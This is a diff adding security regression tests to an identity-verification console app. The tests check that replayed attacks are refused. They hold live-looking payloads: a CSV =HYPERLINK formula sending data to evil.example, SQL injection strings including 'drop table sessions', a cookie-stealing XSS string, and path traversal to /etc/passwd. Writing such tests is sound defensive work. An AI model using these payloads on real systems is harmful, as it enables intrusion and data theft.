@@ -6,6 +6,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { totpCode } from '../../api/src/auth/totp.ts';
 import { hmacHex, simpleMessage } from '../../api/src/didit/signature.ts';
 import { REPO } from '../support/console.ts';
 import { decisionWebhook, type SecurityWorld, startSecurityWorld } from './support/server-world.ts';
@@ -236,6 +237,41 @@ describe('imports (item 5)', () => {
   });
 });
 
+describe('CSV formula injection (kept)', () => {
+  it('attack: a vendor_data of =HYPERLINK(...) exported to the reliance ledger CSV runs as a formula → refused', async () => {
+    const partnerApp = w.sandbox.applications.find((a) => a.name === 'partner')!;
+    const consoleApp = w.sandbox.applications.find((a) => a.name === 'console')!;
+    const [source] = await w.sandbox.seedSessions({
+      application: 'partner',
+      count: 1,
+      kind: 'user',
+      statuses: ['Approved'],
+    });
+    const shared = await fetch(`${w.sandboxUrl}/v3/session/${source}/share/`, {
+      method: 'POST',
+      headers: { 'x-api-key': partnerApp.api_key, 'content-type': 'application/json' },
+      body: JSON.stringify({ for_application_id: consoleApp.application_id, ttl_in_seconds: 600 }),
+    });
+    const token = ((await shared.json()) as { share_token: string }).share_token;
+    const pm = await w.as(['partner_manager']);
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const imported = await w.request('/api/imports', {
+      method: 'POST',
+      who: pm,
+      body: JSON.stringify({
+        share_token: token,
+        workflow_id: consoleApp.workflows.find((x) => x.session_kind === 'user')!.workflow_id,
+        vendor_data: formula,
+      }),
+    });
+    expect(imported.status).toBe(201);
+    const csv = await (await w.request('/api/imports?format=csv', { who: pm })).text();
+    expect(csv).toContain('HYPERLINK');
+    // No cell starts with the formula: it is quoted and prefixed with an apostrophe.
+    expect(csv.split(/\r?\n/).some((line) => line.split(',').some((cell) => /^"?=/.test(cell)))).toBe(false);
+  });
+});
+
 describe('media proxy (item 8)', () => {
   it.each([
     [
@@ -442,5 +478,146 @@ describe('audit chain tail (item 12)', () => {
     const checked = await verify(['--expect-head', kept, file]);
     expect(checked.code).toBe(1);
     expect(checked.out).toMatch(/^CUT OFF/);
+  });
+});
+
+describe('attacks refused before issue 14, replayed from outside (kept)', () => {
+  it.each([
+    ['auditor', 'POST', '/api/sessions/{id}/status'],
+    ['partner_manager', 'GET', '/api/users'],
+    ['reviewer', 'GET', '/api/users/'],
+    ['reviewer', 'GET', '/api//users'],
+    ['reviewer', 'GET', '/API/users'],
+    ['reviewer', 'GET', '/api/%75sers'],
+    ['reviewer', 'GET', '/api/./users'],
+    ['auditor', 'POST', '/api/sessions/{id}/refresh'],
+    ['auditor', 'GET', '/api/sessions/{id}/../../users'],
+    ['partner_manager', 'GET', '/api/audit/export'],
+  ] as const)(
+    'attack: a %s calling %s %s (route × role matrix, path tricks) → refused',
+    async (role, method, route) => {
+      const who = await w.as([role]);
+      const res = await w.request(route.replace('{id}', w.sessionIds[0]!), {
+        method,
+        who,
+        ...(method === 'POST' ? { body: JSON.stringify({ new_status: 'Approved', comment: 'x' }) } : {}),
+      });
+      expect([401, 403, 404, 405]).toContain(res.status);
+    },
+  );
+
+  it("attack: a state change without the CSRF token, or with another session's token → refused", async () => {
+    const reviewer = await w.as(['reviewer']);
+    const path = `/api/sessions/${w.sessionIds[0]}/notes`;
+    const body = JSON.stringify({ body: 'csrf' });
+    const noToken = await w.request(path, { method: 'POST', body, headers: { cookie: reviewer.cookie } });
+    expect(noToken.status).toBe(403);
+    expect(await codeOf(noToken)).toBe('CSRF');
+    // The token of another login session (what a page on another site could at best have obtained).
+    const other = await w.as(['reviewer']);
+    const wrong = await w.request(path, {
+      method: 'POST',
+      body,
+      headers: { cookie: reviewer.cookie, 'x-csrf-token': other.csrfToken },
+    });
+    expect(wrong.status).toBe(403);
+    expect(await codeOf(wrong)).toBe('CSRF');
+  });
+
+  it('attack: session fixation — a cookie planted before sign-in is kept after it → refused', async () => {
+    const user = await w.as(['reviewer']);
+    const planted = '__Host-console_session=attacker-chosen-value-0123456789';
+    const res = await w.request('/api/auth/login', {
+      method: 'POST',
+      headers: { cookie: planted },
+      body: JSON.stringify({ email: user.user.email, password: user.password }),
+    });
+    expect(res.status).toBe(200);
+    const issued = res.headers.getSetCookie().find((c) => c.startsWith('__Host-console_session='))!;
+    expect(issued.split(';')[0]).not.toBe(planted);
+    const me = await w.request('/api/auth/me', { headers: { cookie: planted } });
+    expect(me.status).toBe(401);
+  });
+
+  it('attack: a TOTP code replayed for a second sign-in → refused', async () => {
+    const admin = await w.as(['admin']);
+    const code = totpCode(admin.totpSecret!, new Date());
+    const login = () =>
+      w.request('/api/auth/login', {
+        method: 'POST',
+        body: JSON.stringify({ email: admin.user.email, password: admin.password, totp: code }),
+      });
+    await login();
+    const replay = await login();
+    expect(replay.status).toBe(401);
+  });
+
+  it.each([
+    ['search', "?q=' or '1'='1' --"],
+    ['status filter', "?status=x'); drop table sessions; --"],
+    ['workflow filter', '?workflow_id=%27%3B%20select%20pg_sleep(5)%3B--'],
+    [
+      'cursor',
+      `?cursor=${Buffer.from(JSON.stringify(["2026-01-01T00:00:00Z' or 1=1 --", "x' or '1'='1"])).toString('base64url')}`,
+    ],
+  ])('attack: SQL injection through the queue %s → refused', async (_, query) => {
+    const reviewer = await w.as(['reviewer']);
+    const before = (await w.sql.query('select count(*)::int as n from sessions')).rows[0].n;
+    const res = await w.request(`/api/sessions${query}`, { who: reviewer });
+    expect([200, 400]).toContain(res.status);
+    if (res.status === 200) expect(((await res.json()) as { items: unknown[] }).items).toEqual([]);
+    expect((await w.sql.query('select count(*)::int as n from sessions')).rows[0].n).toBe(before);
+  });
+
+  it('attack: stored XSS through Didit fields reaching the browser as anything but JSON → refused', async () => {
+    const sid = w.sessionIds[3]!;
+    const decision = await w.decisionOf(sid);
+    const xss = '<img src=x onerror=alert(1)><script>alert(document.cookie)</script>';
+    const res = await w.deliver(
+      decisionWebhook(sid, { ...decision, vendor_data: xss, status: decision.status }),
+    );
+    expect(res.status).toBe(200);
+    const reviewer = await w.as(['reviewer']);
+    for (const path of [`/api/sessions/${sid}`, `/api/sessions?q=${encodeURIComponent('<img')}`]) {
+      const view = await w.request(path, { who: reviewer });
+      expect(view.headers.get('content-type')).toMatch(/^application\/json/);
+      expect(view.headers.get('x-content-type-options')).toBe('nosniff');
+      expect(view.headers.get('content-security-policy')).toMatch(/script-src 'self'/);
+    }
+    // The page for the case is the static app shell: no Didit data is rendered into HTML on the server.
+    const page = await fetch(`${w.url}/sessions/${sid}`);
+    if (page.status === 200) expect(await page.text()).not.toContain('onerror=alert');
+  });
+
+  it.each([
+    '/assets/..%2f..%2f..%2fpackage.json',
+    '/assets/%2e%2e/%2e%2e/%2e%2e/api/src/config.ts',
+    '/api/sessions/{id}/media/..%2F..%2F..%2Fetc%2Fpasswd',
+    '/..%2f..%2f..%2fetc/passwd',
+  ])('attack: path traversal through %s → refused', async (route) => {
+    const reviewer = await w.as(['reviewer']);
+    const res = await w.request(route.replace('{id}', w.sessionIds[0]!), { who: reviewer });
+    const text = await res.text();
+    expect(text).not.toMatch(/root:x:0:0|"packageManager"|DIDIT_WEBHOOK_SECRET/);
+  });
+
+  // Last: everything above has been logged by now.
+  it('attack: reading secrets, passwords, tokens or personal data from the server log → refused', async () => {
+    const reviewer = await w.as(['reviewer']);
+    const logs = w.console.logs();
+    expect(logs.length).toBeGreaterThan(0);
+    const docs = await w.sql.query<{ d: string; n: string }>(
+      "select document_number as d, full_name as n from sessions where session_kind = 'user' and document_number is not null limit 3",
+    );
+    for (const secret of [
+      w.secret,
+      w.apiKey,
+      reviewer.password,
+      reviewer.cookie.split('=')[1]!,
+      reviewer.csrfToken,
+      ...docs.rows.flatMap((r) => [r.d, r.n]),
+    ]) {
+      expect(logs.includes(secret), 'a secret or personal datum in the log').toBe(false);
+    }
   });
 });
